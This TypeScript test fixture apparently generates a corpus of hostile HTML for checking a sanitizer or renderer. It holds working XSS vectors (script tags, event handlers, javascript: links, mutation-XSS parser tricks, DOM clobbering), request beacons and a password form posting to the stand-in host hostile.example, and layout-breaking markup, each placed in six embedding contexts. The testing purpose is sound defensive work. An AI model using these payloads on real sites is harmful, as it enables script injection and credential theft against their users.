/** HTML that attacks its reader: known vectors times the places within a text where an operator's data may put them. */

/** A host that no page may ever ask for anything (RFC 2606). */
export const HOSTILE_HOST = 'hostile.example';
/** The function of the page that a payload calls where it runs. */
export const HOSTILE_CALL = 'hostileRan';

export interface Payload {
  /** Its number in the whole list, from 0. */
  readonly id: number;
  /** The text before it, by which a page is searched. */
  readonly mark: string;
  readonly html: string;
}

const RUN = `${HOSTILE_CALL}()`;
const OUT = `https://${HOSTILE_HOST}/x`;
/** A file of the site that is no picture: its `onerror` would run. */
const NO_PICTURE = '/robots.txt';
const LONG = 'Unbroken'.repeat(120);
const nested = (tag: string, times: number) => `<${tag}>`.repeat(times) + 'deep' + `</${tag}>`.repeat(times);

const SCRIPTS = [
  `<script>${RUN}</script>`,
  `<script src="${OUT}"></script>`,
  `<SCRIPT/x>${RUN}</SCRIPT >`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<script type=module>import("${OUT}")</script>`,
  `<script type=speculationrules>{"prefetch":[{"source":"list","urls":["${OUT}"]}]}</script>`,
  `</script><script>${RUN}</script>`,
  `<!--<script></script><script>${RUN}</script>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><script href="${OUT}" /></svg>`,
  `<math><script>${RUN}</script></math>`,
  `<template><script>${RUN}</script></template>`,
  `<div><template shadowrootmode=open><script>${RUN}</script></template></div>`,
  `<table><script>${RUN}</script></table>`,
  `]]></script><script>${RUN}</script>`,
  `\u2028</script\u2029><script\f>${RUN}</script>`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&amp;lt;img src=${NO_PICTURE} onerror=${RUN}&amp;gt;`,
  `<\u017fcript>${RUN}</\u017fcript>`,
  `\uff1cscript\uff1e${RUN}\uff1c/script\uff1e`,
  `<s\u0008cript>${RUN}</s\u0008cript>`,
  `{{constructor.constructor('${RUN}')()}}`,
  '${' + RUN + '}',
];

const HANDLERS = [
  `<img src=${NO_PICTURE} onerror=${RUN}>`,
  `<img/src=${NO_PICTURE}/onerror=${RUN}>`,
  `<img src="${NO_PICTURE}" oNeRrOr='${RUN}'>`,
  `<img src=${NO_PICTURE} onerror\n=\n"${RUN}">`,
  `<img src=${NO_PICTURE} onerror=&#104;ostileRan&lpar;&rpar;>`,
  `<img src=${NO_PICTURE} \u0008onerror=${RUN}>`,
  `<img src="${NO_PICTURE}\`" onerror="${RUN}\`">`,
  `<img """><img src=${NO_PICTURE} onerror=${RUN}>`,
  `<image src=${NO_PICTURE} onerror=${RUN}>`,
  `<body onload=${RUN}>`,
  `<html onmousemove=${RUN}>`,
  `<svg/onload=${RUN}>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><set onbegin=${RUN} attributeName=x></svg>`,
  `<svg><foreignObject><img src=${NO_PICTURE} onerror=${RUN}></foreignObject></svg>`,
  `<details open ontoggle=${RUN}><summary>s</summary>d</details>`,
  `<input autofocus onfocus=${RUN}>`,
  `<select autofocus onfocus=${RUN}><option>o</select>`,
  `<textarea autofocus onfocus=${RUN}></textarea>`,
  `<button autofocus onfocus=${RUN}>b</button>`,
  `<b tabindex=0 autofocus onfocus=${RUN}>b</b>`,
  `<video src=${NO_PICTURE} onerror=${RUN}></video>`,
  `<video><source onerror=${RUN}></video>`,
  `<audio src=${NO_PICTURE} onerror=${RUN}></audio>`,
  `<marquee onstart=${RUN}>m</marquee>`,
  `<iframe onload=${RUN}></iframe>`,
  `<object data=${NO_PICTURE} onerror=${RUN}></object>`,
  `<embed src=${NO_PICTURE} onload=${RUN}>`,
  `<p style="animation:x" onanimationstart=${RUN}>p</p>`,
  `<div popover onbeforetoggle=${RUN}>d</div>`,
  `<div hidden=until-found onbeforematch=${RUN}>d</div>`,
  `<div contenteditable onscrollsnapchange=${RUN}>d</div>`,
  `<xss onpointerrawupdate=${RUN} style=display:block>x</xss>`,
];

const LINKS = [
  `<a href="javascript:${RUN}">l</a>`,
  `<a href="JaVaScRiPt:${RUN}">l</a>`,
  `<a href="java&#x0A;script:${RUN}">l</a>`,
  `<a href="java\tscript:${RUN}">l</a>`,
  `<a href="&#106;avascript&colon;${RUN}">l</a>`,
  `<a href="\u0001javascript:${RUN}">l</a>`,
  `<a href=" javascript:${RUN}">l</a>`,
  `<a href="javascript://%0a${RUN}">l</a>`,
  `<a href="view-source:javascript:${RUN}">l</a>`,
  `<a href="vbscript:${RUN}">l</a>`,
  `<a href="data:text/html,<script>${RUN}</script>">l</a>`,
  `<a href="blob:https://${HOSTILE_HOST}/1">l</a>`,
  `<a href="//${HOSTILE_HOST}">l</a>`,
  `<a href="/\\${HOSTILE_HOST}">l</a>`,
  `<a href="/.//${HOSTILE_HOST}">l</a>`,
  `<a href="/\t/${HOSTILE_HOST}">l</a>`,
  `<a href="https:${HOSTILE_HOST}">l</a>`,
  `<a href="http://localhost@${HOSTILE_HOST}">l</a>`,
  `<a href="/faq" ping="${OUT}">l</a>`,
  `<a href="${OUT}" target=_top rel=opener>l</a>`,
  `<a href="/faq" target=_parent download onclick=${RUN}>l</a>`,
  `<a xlink:href="javascript:${RUN}">l</a>`,
  `<map><area href="javascript:${RUN}" shape=default></map>`,
  `<svg><a><animate attributeName=href values=javascript:${RUN} /><text x=9 y=9>l</text></a></svg>`,
  `<math><maction actiontype=statusline xlink:href=javascript:${RUN}>l</maction></math>`,
  `<form action=javascript:${RUN}><button>b</button></form>`,
  `<form><button formaction=javascript:${RUN}>b</button></form>`,
  `<form action="${OUT}"><input name=password autocomplete=current-password><input type=submit></form>`,
];

const REQUESTS = [
  `<img src="${OUT}">`,
  `<img src=//${HOSTILE_HOST}/x>`,
  `<img src="/\\${HOSTILE_HOST}/x">`,
  `<img src="/.//${HOSTILE_HOST}/x">`,
  `<img src="\n/\n/${HOSTILE_HOST}/x">`,
  `<img src="${NO_PICTURE}" srcset="${OUT} 1x" sizes=1px>`,
  `<img src="${NO_PICTURE}" lowsrc="${OUT}" dynsrc="${OUT}" longdesc="${OUT}">`,
  `<picture><source srcset="${OUT}"><img src="${NO_PICTURE}"></picture>`,
  `<link rel=stylesheet href="${OUT}">`,
  `<link rel=preload as=image href="${OUT}">`,
  `<link rel=prefetch href="${OUT}"><link rel=preconnect href="${OUT}"><link rel=dns-prefetch href="${OUT}">`,
  `<link rel=manifest href="${OUT}"><link rel=icon href="${OUT}">`,
  `<style>@import "${OUT}";</style>`,
  `<style>body{background:url(${OUT})}</style>`,
  `<p style="background:url(${OUT})">p</p>`,
  `<ul style="list-style-image:url(${OUT})"><li>l</ul>`,
  `<table background="${OUT}"><tr><td background="${OUT}">c</table>`,
  `<body background="${OUT}">`,
  `<iframe src="${OUT}"></iframe>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<frameset><frame src="${OUT}"></frameset>`,
  `<fencedframe config="${OUT}"></fencedframe><portal src="${OUT}"></portal>`,
  `<embed src="${OUT}">`,
  `<object data="${OUT}"><param name=movie value="${OUT}"></object>`,
  `<applet code="${OUT}" codebase="${OUT}"></applet>`,
  `<video poster="${OUT}" src="${OUT}" autoplay><track src="${OUT}" default></video>`,
  `<audio src="${OUT}" autoplay></audio>`,
  `<bgsound src="${OUT}">`,
  `<input type=image src="${OUT}">`,
  `<base href="${OUT}/">`,
  `<meta http-equiv=refresh content="0;url=${OUT}">`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<meta http-equiv=Content-Security-Policy content="script-src *">`,
  `<meta name=referrer content=unsafe-url>`,
  `<svg><image href="${OUT}"/><use href="${OUT}#x"/></svg>`,
  `<svg><style>@import url(${OUT})</style><rect fill="url(${OUT}#a)"/></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>#x"/></svg>`,
  `<math href="${OUT}"><mglyph src="${OUT}"/></math>`,
  `<blockquote cite="${OUT}">q</blockquote>`,
  `<?xml-stylesheet href="${OUT}"?>`,
  `<!DOCTYPE x [<!ENTITY e SYSTEM "${OUT}">]>&e;`,
  `<esi:include src="${OUT}"/><!--#include virtual="${OUT}"-->`,
];

/** What one parser reads as text, and another as markup. */
const MUTATIONS = [
  `<noscript><p title="</noscript><img src=${NO_PICTURE} onerror=${RUN}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=${NO_PICTURE} onerror=${RUN}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=${NO_PICTURE} onerror=${RUN}>`,
  `<svg></p><style><a id="</style><img src=${NO_PICTURE} onerror=${RUN}>">`,
  `<textarea><img title="</textarea><img src=${NO_PICTURE} onerror=${RUN}>"></textarea>`,
  `<title><a title="</title><img src=${NO_PICTURE} onerror=${RUN}>">`,
  `<xmp><p title="</xmp><img src=${NO_PICTURE} onerror=${RUN}>"></xmp>`,
  `<listing>&lt;img src=${NO_PICTURE} onerror=${RUN}&gt;</listing>`,
  `<noembed><img title="</noembed><img src=${NO_PICTURE} onerror=${RUN}>"></noembed>`,
  `<iframe><img title="</iframe><img src=${NO_PICTURE} onerror=${RUN}>"></iframe>`,
  `<plaintext><img src=${NO_PICTURE} onerror=${RUN}>`,
  `<select><style></select><img src=${NO_PICTURE} onerror=${RUN}></style>`,
  `<svg><![CDATA[><img src=${NO_PICTURE} onerror=${RUN}>]]></svg>`,
  `<!--><img src=${NO_PICTURE} onerror=${RUN}>-->`,
  `<!--- --!><img src=${NO_PICTURE} onerror=${RUN}>-->`,
  `<![><img src=${NO_PICTURE} onerror=${RUN}>`,
  `<% <img src=${NO_PICTURE} onerror=${RUN}> %>`,
  `</ <img src=${NO_PICTURE} onerror=${RUN}>>`,
  `<a href="/faq"><table><a href="javascript:${RUN}">l</a></table></a>`,
  `<p><svg><title><p><style><!--</style><img src=${NO_PICTURE} onerror=${RUN}>--></title></svg>`,
  `jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */${RUN} )//%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=${RUN}//>\\x3e`,
  `<form id=head><input name=body><img name=cookie src=${NO_PICTURE}></form>`,
  `<a id=location href="/faq">l</a><a id=defaultView name=postMessage href="/faq">l</a>`,
  `<div id=root class=x slot=x part=x is=x data-part=table data-money itemprop=x>d</div>`,
  `<b __proto__=x constructor=x toString=x hasOwnProperty=x>b</b>`,
  `<constructor>c</constructor><__proto__>p</__proto__><toString>t</toString>`,
];

/** What would leave its box, cover the page, or close what is around it. */
const LAYOUTS = [
  `<div style="position:fixed;inset:0;z-index:2147483647;background:red">d</div>`,
  `<p style="margin-left:-9999px;margin-top:-9999px">p</p>`,
  `<p style="transform:scale(99);zoom:99;font-size:999px">p</p>`,
  `<div style="width:9999px;height:9999px;float:right">d</div>`,
  `<dialog open>d</dialog><div popover=manual>d</div>`,
  LONG,
  `<p>${LONG}</p>`,
  `<h1>${LONG}</h1>`,
  `<h4>${LONG}</h4>`,
  `<a href="/faq">${LONG}</a>`,
  `<a href="https://example.com/${LONG}">https://example.com/${LONG}</a>`,
  `<ul><li>${LONG}</li></ul>`,
  `<blockquote>${LONG}</blockquote>`,
  `<pre>${LONG}\n${LONG}</pre>`,
  `<nobr>${'many words '.repeat(80)}</nobr>`,
  'no\u00a0break'.repeat(120),
  'no\u2060break'.repeat(120),
  '\ud83d\udc68\u200d\ud83d\udc69\u200d'.repeat(60),
  '\u202e' + 'backwards '.repeat(20),
  `<p dir=rtl lang=ar>${LONG}</p>`,
  'Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319'.repeat(30),
  `<img src=${NO_PICTURE} width=9999 height=9999 alt="${LONG}">`,
  `<img src=${NO_PICTURE} width=9999 alt="wide">`,
  `<hr width=9999 size=9999>`,
  `<table width=9999><tr><td nowrap>${LONG}</td></tr></table>`,
  `<table><tr>${'<td>cell</td>'.repeat(60)}</tr></table>`,
  `<table><tr><th colspan=9999>h</th></tr><tr><td rowspan=9999>c</td></tr></table>`,
  `<table><caption>${LONG}</caption><tr><td>c</td></tr></table>`,
  nested('blockquote', 40),
  nested('ul><li', 30).replaceAll('</ul><li>', '</li></ul>'),
  nested('ol><li', 30).replaceAll('</ol><li>', '</li></ol>'),
  nested('table><tr><td', 12).replaceAll('</table><tr><td>', '</td></tr></table>'),
  nested('small', 30),
  nested('sup', 30),
  nested('sub', 30),
  `<ol start=9999><li>l</ol>`,
  `<font size=7 face=x color=red>f</font><big>b</big><center>c</center>`,
  `<textarea cols=9999 rows=9999>t</textarea><input size=9999>`,
  '<br>'.repeat(40),
  '</p></div></article></main></dialog></body></html>',
  '<div>'.repeat(400),
];

const VECTORS = [...SCRIPTS, ...HANDLERS, ...LINKS, ...REQUESTS, ...MUTATIONS, ...LAYOUTS];

const CONTEXTS: readonly ((vector: string) => string)[] = [
  (vector) => vector,
  (vector) => `<p>Before <b>${vector}</b> after</p>`,
  (vector) => `<ul><li>${vector}</li></ul>`,
  (vector) => `<table><tr><td>${vector}</td></tr></table>`,
  // Never closed.
  (vector) => `<blockquote><a href="/faq">${vector}`,
  (vector) => `<p title="${vector}">p</p>`,
];

/** Ends whatever a payload has left open, so that the next one of the same text is read by itself. */
const REST = `x" '> --> ]]> ${[
  ...[
    'script',
    'style',
    'title',
    'textarea',
    'xmp',
    'noscript',
    'noembed',
    'iframe',
    'template',
    'plaintext',
  ],
  ...['svg', 'math', 'select', 'form', 'object', 'video', 'audio', 'button', 'canvas', 'frameset', 'body'],
]
  .map((tag) => `</${tag}>`)
  .join('')}${'</td></tr></table>'.repeat(13)}${'</li></ul></ol></blockquote></a></b></p>'.repeat(3)}`;

/** Every payload, in a fixed order. */
export const HOSTILE_HTML: readonly Payload[] = CONTEXTS.flatMap((context, place) =>
  VECTORS.map((vector, index) => {
    const id = place * VECTORS.length + index;
    return { id, mark: `mark${id}.`, html: context(vector) };
  }),
);

/** The first words of a text of several payloads. */
export const OPENING = 'Hostile from here.';

/** One text of several payloads, each behind its mark. */
export function textOf(payloads: readonly Payload[]): string {
  return `<p>${OPENING}</p>${payloads.map(({ mark, html }) => `${mark} ${html}${REST}`).join('\n')}`;
}

/** Splits a list into lists of at most `size`, in its order. */
export function inBatches<T>(all: readonly T[], size: number): T[][] {
  return Array.from({ length: Math.ceil(all.length / size) }, (_, index) =>
    all.slice(index * size, (index + 1) * size),
  );
}
